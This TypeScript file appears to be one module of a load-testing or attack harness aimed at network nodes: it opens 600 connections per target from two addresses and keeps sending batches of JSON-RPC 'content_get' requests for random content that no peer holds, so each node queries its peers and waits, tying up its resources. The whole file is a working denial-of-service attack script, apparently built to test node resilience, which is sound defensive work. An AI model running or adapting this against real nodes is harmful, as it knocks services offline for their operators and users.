import { randomBytes } from 'node:crypto';
import { type Attack, TWO_ADDRESSES } from '../attack.ts';
import { callOf, headOf, keepSockets, onEach } from '../http.ts';

/** More than a node has room for. */
const CONNECTIONS = 600;
const CALLS = 100;

/** Half of a root, which each batch draws by chance. */
const HALF = '{half}';
const BATCH = `[${Array.from({ length: CALLS }, (_, i) => callOf('content_get', `{"root":"0x${HALF}${i.toString(16).padStart(32, '0')}"}`)).join(',')}]`;

/** Content that nobody has: a node asks its peers for each, and waits. */
const batch = (): string => BATCH.replaceAll(HALF, randomBytes(16).toString('hex'));

export const attack: Attack = {
  name: 'rpc-waiting-calls',
  what: `${CONNECTIONS} connections to each node, from two addresses, ask for batches of content that nobody has.`,
  run: ({ targets }, signal) =>
    onEach(targets, (target) =>
      keepSockets(
        target,
        CONNECTIONS,
        async (socket, gone) => {
          let sent = 0;
          const ask = (): void => {
            const body = batch();
            const request = `${headOf(body.length)}${body}`;
            sent += request.length;
            socket.write(request);
          };
          ask();
          // Its answer ends with the last of the batch, and is followed by the next question.
          socket.on('data', (data: Buffer) => {
            if (data.includes('}]')) ask();
          });
          await new Promise((resolve) => gone.addEventListener('abort', resolve, { once: true }));
          return sent;
        },
        signal,
        TWO_ADDRESSES,
      ),
    ),
};
